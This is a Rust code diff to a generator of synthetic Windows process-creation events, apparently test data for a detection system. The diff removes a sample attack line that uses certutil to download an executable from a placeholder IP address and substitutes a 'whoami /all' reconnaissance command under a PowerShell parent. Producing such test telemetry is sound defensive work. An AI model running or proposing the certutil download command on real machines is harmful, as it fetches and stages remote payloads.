@@ -66,10 +66,7 @@ fn mixed(run: &str, round: usize, count: usize) -> (serde_json::Value, usize) {
             let attack = n % ATTACK_EVERY == 0;
             attacks += usize::from(attack);
             let (image, line) = if attack {
-                (
-                    "C:\\Windows\\System32\\certutil.exe",
-                    "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe",
-                )
+                ("C:\\Windows\\System32\\whoami.exe", "whoami.exe /all")
             } else {
                 ("C:\\Windows\\System32\\notepad.exe", "notepad.exe notes.txt")
             };
@@ -88,7 +85,7 @@ fn mixed(run: &str, round: usize, count: usize) -> (serde_json::Value, usize) {
                 "Image": image,
                 "OriginalFileName": image.rsplit('\\').next(),
                 "CommandLine": line,
-                "ParentImage": "C:\\Windows\\System32\\cmd.exe",
+                "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "User": format!("EXAMPLE\\lat-{run}-{round}-{n}"),
             })
         })
